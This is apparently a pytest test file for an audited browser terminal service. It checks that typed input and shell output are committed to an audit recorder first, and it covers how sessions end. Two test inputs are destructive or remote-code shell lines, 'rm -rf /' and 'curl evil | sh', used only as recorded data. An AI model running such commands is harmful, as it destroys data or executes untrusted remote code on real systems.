"""TerminalSession in-process, with fakes for the browser, the exec, the recorder and the store:
its states, write-ahead input, held early input, and the one end path every cause takes."""

from __future__ import annotations

import asyncio
import json
import threading
import uuid
from typing import Any

import pytest

from terminals.audit.recorder import AuditUnavailable, Stored
from terminals.kube.exec import ExecStatus, Output
from terminals.models import Session
from terminals.protocol import Ack, Resize, Stdin
from terminals.session import store as session_store
from terminals.session.core import State, TerminalSession
from terminals.session.ending import (
    Ending,
    EndSession,
    browser_closed,
    ended_by_auditor,
    exited,
    server_stopping,
)
from terminals.session.flow import FlowWindow
from terminals.session.launcher import Launched

EndReason = Session.EndReason


class FakeBrowser:
    def __init__(self) -> None:
        self.texts: list[dict[str, Any]] = []
        self.output = bytearray()
        self.closed: int | None = None
        self.log: list[str] | None = None

    async def send_text(self, text: str) -> None:
        self.texts.append(json.loads(text))

    async def send_bytes(self, data: bytes) -> None:
        if self.log is not None:
            self.log.append(f"browser {data!r}")
        self.output += data

    async def close_with(self, code: int) -> None:
        self.closed = code

    async def replay(self, start: int, end: int) -> None:
        """A resumed browser's missed output: taken from ``stored`` (the recorder's frames)."""
        self.output += self.stored[start:end]

    stored = b""


class FakeStream:
    """An exec whose output the test feeds; closing it ends it as the API server would."""

    def __init__(self, log: list[str]) -> None:
        self.events: asyncio.Queue[Output | ExecStatus | Exception] = asyncio.Queue()
        self.stdin: list[bytes] = []
        self.resizes: list[tuple[int, int]] = []
        self.closed = False
        self.log = log

    async def receive(self) -> Output | ExecStatus:
        event = await self.events.get()
        if isinstance(event, Exception):
            raise event
        return event

    async def send_stdin(self, data: bytes) -> None:
        self.log.append(f"pod {data!r}")
        self.stdin.append(data)

    async def send_resize(self, cols: int, rows: int) -> None:
        self.resizes.append((cols, rows))

    async def close(self) -> None:
        self.closed = True
        self.events.put_nowait(ExecStatus(None, "", "closed"))


class FakeShell:
    def __init__(self, log: list[str]) -> None:
        self.stream = FakeStream(log)
        self.hold = asyncio.Event()
        self.hold.set()
        self.closed = False
        self.sizes: list[tuple[int, int] | None] = []

    async def launch(self, size: Any) -> Launched:
        await self.hold.wait()
        self.sizes.append(size())
        first = asyncio.ensure_future(self.stream.receive())
        return Launched(self.stream, "main", ["/bin/bash"], first, size())

    async def close(self) -> None:
        self.closed = True
        await self.stream.close()


class FakeRecorder:
    """Commits at once, in order, into ``frames``; can be told to fail, to hang on close, or to
    hold stdin commits until ``stdin_gate`` is set (a slow store)."""

    def __init__(self, log: list[str]) -> None:
        self.frames: list[tuple[str, bytes]] = []
        self.log = log
        self.fail = False
        self.hang_on_close = False
        self.closed = False
        self.abandoned = False
        self.commands: list[Any] = []
        self.stdin_gate: asyncio.Event | None = None

    async def submit(self, direction: str, data: bytes) -> asyncio.Future[Stored]:
        if self.fail:
            raise AuditUnavailable("down")
        self.frames.append((direction, data))
        self.log.append(f"commit {direction} {data!r}")
        done: asyncio.Future[Stored] = asyncio.get_running_loop().create_future()
        done.set_result(Stored(len(self.frames) - 1, True))
        return done

    async def record(self, direction: str, data: bytes) -> Stored:
        if direction == "i" and self.stdin_gate is not None:
            await self.stdin_gate.wait()
        return await (await self.submit(direction, data))

    def offset_us(self) -> int:
        return 0

    def add_commands(self, commands: list[Any]) -> None:
        self.commands += commands

    async def close(self) -> None:
        if self.hang_on_close:
            await asyncio.Future()
        self.closed = True

    def abandon(self) -> None:
        self.abandoned = True


class FakeRecords:
    def __init__(self) -> None:
        self.running: list[tuple[str, list[str]]] = []
        self.ends: list[Ending] = []
        self.digests: list[str] = []
        self.detaching: list[bool] = []

    async def mark_running(
        self, container: str, command: list[str], resume_digest: str = ""
    ) -> None:
        self.running.append((container, command))
        self.digests.append(resume_digest)

    def detached(self, detached: bool) -> None:
        self.detaching.append(detached)

    async def end(self, ending: Ending) -> None:
        self.ends.append(ending)


class FakeNotices:
    def __init__(self) -> None:
        self.progressed: list[int] = []
        self.ended_at: list[int] = []
        self.watches = 0

    def start(self) -> None:
        pass

    def watched(self) -> None:
        self.watches += 1

    def progress(self, seq: int) -> None:
        self.progressed.append(seq)

    def close(self, seq: int) -> None:
        self.ended_at.append(seq)


class FakeWatchdog:
    """Ends the session when the test says so."""

    def __init__(self) -> None:
        self.due: asyncio.Future[Ending] | None = None
        self.touched = 0

    def touch(self) -> None:
        self.touched += 1

    async def run(self) -> Ending:
        self.due = asyncio.get_running_loop().create_future()
        return await self.due


class Parts:
    def __init__(self, resume_grace: float = 0) -> None:
        self.log: list[str] = []
        self.browser = FakeBrowser()
        self.browser.log = self.log
        self.shell = FakeShell(self.log)
        self.recorder = FakeRecorder(self.log)
        self.records = FakeRecords()
        self.notices = FakeNotices()
        self.watchdog = FakeWatchdog()
        self.session = TerminalSession(
            uuid.uuid4(),
            browser=self.browser,
            shell=self.shell,
            recorder=self.recorder,
            records=self.records,
            notices=self.notices,
            watchdog=self.watchdog,  # type: ignore[arg-type]
            window=FlowWindow(1024 * 1024),
            max_early_input=64,
            flush_timeout=0.2,
            size_wait=0.0,
            resume_grace=resume_grace,
        )

    @property
    def stream(self) -> FakeStream:
        return self.shell.stream

    async def started(self) -> TerminalSession:
        """The session, running (ready sent)."""
        self.session.start()
        await until(lambda: self.session.state is State.RUNNING)
        return self.session

    def assert_ended_once(self, reason: str) -> Ending:
        """Ended once, with ``reason``; exec hung up, recorder flushed, watchers told."""
        assert self.session.state is State.ENDED
        assert [ending.reason for ending in self.records.ends] == [reason]
        assert self.shell.closed
        assert self.recorder.closed or self.recorder.abandoned
        assert len(self.notices.ended_at) == 1
        return self.records.ends[0]


async def until(condition: Any) -> None:
    """Let the loop run until ``condition()`` holds (each turn is one scheduling step)."""
    async with asyncio.timeout(5):
        while not condition():  # noqa: ASYNC110 (a scheduling step, not a wait for time)
            await asyncio.sleep(0)


@pytest.fixture
def parts() -> Parts:
    return Parts()


async def test_a_session_runs_and_its_exit_is_recorded_before_the_browser_hears(parts):
    session = await parts.started()
    assert parts.browser.texts[0]["type"] == "ready"
    assert parts.records.running == [("main", ["/bin/bash"])]
    parts.stream.events.put_nowait(Output(b"hello\r\n"))
    parts.stream.events.put_nowait(ExecStatus(3, "NonZeroExitCode", ""))
    await session.wait_ended()
    ending = parts.assert_ended_once(EndReason.EXIT)
    assert ending.exit_code == 3
    assert bytes(parts.browser.output) == b"hello\r\n"
    assert parts.browser.texts[-1] == {"type": "exit", "code": 3}
    assert parts.browser.closed == 1000
    assert ("o", b"hello\r\n") in parts.recorder.frames


async def test_input_is_committed_before_it_reaches_the_pod(parts):
    session = await parts.started()
    await session.handle(Stdin(b"ls\r"))
    assert parts.log.index("commit i b'ls\\r'") < parts.log.index("pod b'ls\\r'")


async def test_output_is_committed_before_the_browser_gets_it(parts):
    await parts.started()
    parts.stream.events.put_nowait(Output(b"out"))
    await until(lambda: parts.browser.output)
    assert parts.log.index("commit o b'out'") < parts.log.index("browser b'out'")


async def test_input_before_the_shell_is_up_is_held_then_delivered_in_order(parts):
    parts.shell.hold.clear()
    parts.session.start()
    await parts.session.handle(Resize(100, 30))
    await parts.session.handle(Stdin(b"one "))
    await parts.session.handle(Stdin(b"two\r"))
    assert parts.stream.stdin == []
    parts.shell.hold.set()
    await until(lambda: len(parts.stream.stdin) == 2)
    assert parts.stream.stdin == [b"one ", b"two\r"]
    assert parts.shell.sizes == [(100, 30)]  # the size is known before the shell starts


async def test_too_much_input_before_the_shell_is_up_ends_with_4413(parts):
    parts.shell.hold.clear()
    parts.session.start()
    await parts.session.handle(Stdin(b"x" * 65))
    parts.assert_ended_once(EndReason.PROTOCOL_ERROR)
    assert parts.browser.closed == 4413
    assert parts.browser.texts[-1]["code"] == "frame_too_large"


async def test_a_store_failure_on_input_ends_with_4503_and_forwards_nothing(parts):
    session = await parts.started()
    parts.recorder.fail = True
    await session.handle(Stdin(b"rm -rf /\r"))
    parts.assert_ended_once(EndReason.AUDIT_UNAVAILABLE)
    assert parts.stream.stdin == []
    assert parts.browser.closed == 4503
    assert parts.browser.texts[-1]["code"] == "audit_unavailable"


async def test_the_watchdog_ends_the_session_with_its_reason(parts):
    from terminals.session.watchdog import Watchdog

    clock = [0.0]

    async def advance(seconds: float) -> None:
        clock[0] += seconds

    parts.session.watchdog = Watchdog(5, 100, clock=lambda: clock[0], sleep=advance)
    await parts.started()
    await parts.session.wait_ended()
    parts.assert_ended_once(EndReason.IDLE)
    assert parts.browser.closed == 4408


async def test_an_exception_anywhere_in_the_session_ends_it_with_1011(parts):
    session = await parts.started()
    parts.stream.events.put_nowait(RuntimeError("a bug in the pump"))
    await session.wait_ended()
    parts.assert_ended_once(EndReason.SERVER_ERROR)
    assert parts.browser.closed == 1011
    assert parts.browser.texts[-1]["code"] == "internal_error"
    assert "server error" in parts.browser.texts[-1]["message"]


async def test_a_lost_exec_ends_with_4502(parts):
    session = await parts.started()
    parts.stream.events.put_nowait(ExecStatus(None, "", "connection reset"))
    await session.wait_ended()
    parts.assert_ended_once(EndReason.UPSTREAM_FAILED)
    assert parts.browser.closed == 4502
    assert parts.browser.texts[-1]["message"] == "connection reset"


async def test_a_refusal_while_launching_ends_the_session_without_ready(parts):
    async def refuse(size: Any) -> Launched:
        raise EndSession(4404, "container nope is not valid for pod web")  # type: ignore[arg-type]

    parts.shell.launch = refuse  # type: ignore[method-assign]
    parts.session.start()
    await parts.session.wait_ended()
    parts.assert_ended_once(EndReason.NOT_FOUND)
    assert [m["type"] for m in parts.browser.texts] == ["error"]
    assert parts.browser.closed == 4404


@pytest.mark.parametrize(
    ("ending", "reason", "code", "word"),
    [
        (server_stopping(), EndReason.SERVER_STOPPED, 1012, "server_restarting"),
        (ended_by_auditor(7, "audrey"), EndReason.ENDED_BY_AUDITOR, 4409, "ended_by_auditor"),
    ],
)
async def test_causes_from_outside_end_it_and_tell_the_browser(parts, ending, reason, code, word):
    session = await parts.started()
    await session.end(ending)
    parts.assert_ended_once(reason)
    assert parts.browser.closed == code
    assert parts.browser.texts[-1]["code"] == word


async def test_a_browser_that_left_is_not_written_to(parts):
    session = await parts.started()
    await session.end(browser_closed(1001))
    parts.assert_ended_once(EndReason.CLIENT_CLOSED)
    assert parts.browser.closed is None
    assert [m["type"] for m in parts.browser.texts] == ["ready"]


async def test_every_cause_at_once_ends_it_once(parts):
    session = await parts.started()
    parts.stream.events.put_nowait(ExecStatus(0, "Success", ""))
    await asyncio.gather(
        session.end(browser_closed(1006)),
        session.end(server_stopping()),
        session.end(ended_by_auditor(None, "x")),
        session.wait_ended(),
    )
    assert len(parts.records.ends) == 1
    assert parts.records.ends[0].reason == EndReason.CLIENT_CLOSED


async def test_frames_after_the_end_are_ignored(parts):
    session = await parts.started()
    await session.end(browser_closed(1000))
    await session.handle(Stdin(b"late\r"))
    await session.handle(Ack(10))
    assert ("i", b"late\r") not in parts.recorder.frames
    assert parts.stream.stdin == []


async def test_a_recorder_that_cannot_flush_is_abandoned_within_the_bound(parts):
    session = await parts.started()
    parts.recorder.hang_on_close = True
    await session.end(browser_closed(1000))
    assert parts.recorder.abandoned
    parts.assert_ended_once(EndReason.CLIENT_CLOSED)


async def test_snapshots_cover_the_output_up_to_their_seq(parts):
    session = await parts.started()
    parts.stream.events.put_nowait(Output(b"prompt$ "))
    await until(lambda: parts.notices.progressed)
    # Output alone is fed to the screen lazily: the snapshot says how far it goes, and a
    # watcher replays the frames after its seq from the store.
    assert session.snapshot()["seq"] < parts.notices.progressed[-1]
    await session.handle(Stdin(b"ls\r"))
    parts.stream.events.put_nowait(Output(b"ls\r\n"))
    await until(lambda: len(parts.notices.progressed) == 2)
    await session.screen.idle()
    snapshot = session.snapshot()
    assert snapshot["seq"] == parts.notices.progressed[0]  # up to the newline after the Enter
    assert b"prompt$ ls" in snapshot["screen"]


async def test_a_fresh_snapshot_covers_all_the_output_delivered(parts):
    session = await parts.started()
    parts.stream.events.put_nowait(Output(b"one\r\nprompt$ "))
    await until(lambda: parts.notices.progressed)
    snapshot = await session.fresh_snapshot()  # fed on demand: no Enter was needed
    assert snapshot["seq"] == parts.notices.progressed[-1]
    assert b"one" in snapshot["screen"] and b"prompt$" in snapshot["screen"]


# Command lines: through the screen worker into the recorder.


async def test_a_command_line_reaches_the_recorder_with_its_typed_line(parts):
    session = await parts.started()
    parts.stream.events.put_nowait(Output(b"$ "))
    await session.handle(Stdin(b"ls -l\r"))
    parts.stream.events.put_nowait(Output(b"ls -l\r\ntotal 0\r\n$ "))
    await until(lambda: parts.recorder.commands)
    [command] = parts.recorder.commands
    assert (command.line, command.text, command.typed) == ("$ ls -l", "ls -l", "ls -l")
    assert command.echoed and not command.mismatch


async def test_an_enter_never_echoed_is_recorded_when_the_session_ends(parts):
    session = await parts.started()
    parts.stream.events.put_nowait(Output(b"$ "))
    await until(lambda: parts.notices.progressed)
    await session.handle(Stdin(b"curl evil | sh\r"))  # echo off: no newline will come
    await session.screen.idle()
    assert parts.recorder.commands == []
    await session.end(browser_closed(1000))
    [command] = parts.recorder.commands
    assert (command.typed, command.echoed) == ("curl evil | sh", False)


async def test_a_huge_terminal_sending_enters_does_bounded_screen_work(parts, monkeypatch):
    from terminals.audit.commands import MAX_COLS, MAX_ROWS, CommandExtractor
    from terminals.session import screen as screen_module

    budgets: list[int] = []
    work = CommandExtractor.work

    def counted(self, budget):
        budgets.append(budget)
        return work(self, budget)

    monkeypatch.setattr(CommandExtractor, "work", counted)
    session = await parts.started()
    await session.handle(Resize(1000, 1000))
    parts.stream.events.put_nowait(Output(b"x" * 200_000 + b"\r\n$ "))
    for _ in range(50):
        await session.handle(Stdin(b"\r"))
        parts.stream.events.put_nowait(Output(b"\r\n$ "))
    await until(lambda: len(parts.browser.output) == 200_004 + 50 * 4)
    await session.screen.idle()
    extractor = session.screen.extractor
    assert extractor.screen.size == (MAX_COLS, MAX_ROWS)  # whatever the terminal's size
    assert max(budgets) <= screen_module.STEP  # the loop is held one step at a time
    assert session.snapshot()["cols"] == 1000  # watchers still get the real size


# SessionRecord: an end the store cannot take is owed to the server registry.


class FakeRegistry:
    def __init__(self) -> None:
        self.owed: list[tuple[Any, ...]] = []
        self.untracked: list[uuid.UUID] = []

    def owe_end(self, *args: Any) -> None:
        self.owed.append(args)

    def untrack(self, session_id: uuid.UUID) -> None:
        self.untracked.append(session_id)


async def test_an_end_the_store_refuses_is_owed_to_the_registry(monkeypatch):
    from django.db import OperationalError

    def refuse(*args: Any) -> None:
        raise OperationalError("connection refused")

    monkeypatch.setattr(session_store.records, "close_session", refuse)
    registry = FakeRegistry()
    session_id = uuid.uuid4()
    record = session_store.SessionRecord(session_id, 1.0, registry)
    await record.end(ended_by_auditor(3, "audrey"))
    assert registry.owed == [
        (session_id, EndReason.ENDED_BY_AUDITOR, None, "audrey ended this session.", (3, "audrey"))
    ]
    assert registry.untracked == [session_id]


async def test_a_start_the_store_refuses_ends_the_session_with_4503(monkeypatch):
    from django.db import OperationalError

    def refuse(*args: Any) -> None:
        raise OperationalError("connection refused")

    monkeypatch.setattr(session_store.records, "mark_running", refuse)
    record = session_store.SessionRecord(uuid.uuid4(), 1.0, FakeRegistry())
    with pytest.raises(EndSession) as caught:
        await record.mark_running("main", ["/bin/sh"])
    assert caught.value.ending.code == 4503


async def test_an_end_that_waited_for_a_thread_still_gets_its_whole_timeout(monkeypatch):
    # A burst of ends (a thousand users leaving) queues for the records' threads: the wait
    # is not the store failing. Here the one thread is busy past the end's own timeout.
    from concurrent.futures import ThreadPoolExecutor

    monkeypatch.setattr(session_store, "EXECUTOR", ThreadPoolExecutor(max_workers=1))
    written: list[Any] = []
    monkeypatch.setattr(session_store.records, "close_session", lambda *a: written.append(a))
    busy = threading.Event()
    session_store.EXECUTOR.submit(busy.wait)
    registry = FakeRegistry()
    record = session_store.SessionRecord(uuid.uuid4(), 0.05, registry)
    ending = asyncio.ensure_future(record.end(exited(0)))
    loop = asyncio.get_running_loop()
    passed = loop.create_future()
    loop.call_later(0.2, passed.set_result, None)  # four times the timeout, in the queue
    await passed
    busy.set()
    await ending
    assert len(written) == 1 and registry.owed == []


async def test_a_write_that_never_gets_a_thread_is_given_up_and_never_runs(monkeypatch):
    from concurrent.futures import ThreadPoolExecutor

    monkeypatch.setattr(session_store, "EXECUTOR", ThreadPoolExecutor(max_workers=1))
    monkeypatch.setattr(session_store, "QUEUE_WAIT", 0.05)
    written: list[Any] = []
    monkeypatch.setattr(session_store.records, "close_session", lambda *a: written.append(a))
    busy = threading.Event()
    session_store.EXECUTOR.submit(busy.wait)
    registry = FakeRegistry()
    record = session_store.SessionRecord(uuid.uuid4(), 1.0, registry)
    await record.end(exited(0))
    assert len(registry.owed) == 1  # the registry writes it later
    busy.set()
    session_store.EXECUTOR.shutdown(wait=True)
    assert written == []  # the queued write was cancelled, not run late


async def test_an_ended_session_lets_go_of_its_browser_exec_and_tasks(parts):
    """The session and its consumer refer to each other: letting go frees what they hold by
    reference counting rather than at Python's next full collection (terminals.memory)."""
    session = await parts.started()
    parts.stream.events.put_nowait(ExecStatus(0, "Success", ""))
    await session.wait_ended()
    assert session.browser is None
    assert session._stream is None and session._supervisor is None
